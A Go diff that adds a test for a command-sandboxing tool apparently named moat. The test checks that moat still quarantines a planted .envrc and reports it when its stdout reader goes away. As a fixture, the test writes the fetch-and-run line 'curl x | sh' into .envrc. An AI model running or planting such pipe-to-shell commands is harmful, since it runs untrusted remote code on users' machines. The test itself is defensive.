@@ -3,6 +3,8 @@ package main
 import (
 	"bufio"
 	"encoding/json"
+	"errors"
+	"io"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -150,5 +152,45 @@ func TestKilledRunQuarantinedByNext(t *testing.T) {
 	}
 	if left, _ := os.ReadDir(filepath.Join(dir, "state", "runs")); len(left) != 0 {
 		t.Errorf("records left: %v", left)
+	}
+}
+
+// TestRunSurvivesClosedStdout: a reader of moat run's output that goes
+// away (moat run ... | head) fails moat's next write with EPIPE, which
+// the relay passes on to the command, and the run ends as any other
+// does: what the command planted is quarantined and moat says so. Before,
+// the Go runtime ended moat on the write (SIGPIPE on fd 1), and nothing of
+// the run's end happened (tried: .envrc stayed, and the report was empty).
+func TestRunSurvivesClosedStdout(t *testing.T) {
+	dir := t.TempDir()
+	ws := filepath.Join(dir, "ws")
+	os.Mkdir(ws, 0o755)
+	cmd := exec.Command(os.Args[0], "run", "--", "sh", "-c", "echo 'curl x | sh' > .envrc; yes")
+	cmd.Env = append(os.Environ(), "MOAT_TEST_AS_MOAT=1", "MOAT_STATE_DIR="+filepath.Join(dir, "state"))
+	cmd.Dir = ws
+	var errb strings.Builder
+	cmd.Stderr = &errb
+	out, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	var b [2]byte
+	if _, err := io.ReadFull(out, b[:]); err != nil {
+		t.Fatal(err)
+	}
+	out.Close()
+	err = cmd.Wait()
+	var ee *exec.ExitError
+	if !errors.As(err, &ee) || ee.ExitCode() != 128+int(syscall.SIGPIPE) {
+		t.Errorf("moat run: %v, want the command's own SIGPIPE status (141)", err)
+	}
+	if !strings.Contains(errb.String(), "the command left .envrc") {
+		t.Errorf("moat's stderr: %q", errb.String())
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err == nil {
+		t.Error(".envrc is still in the workspace")
 	}
 }
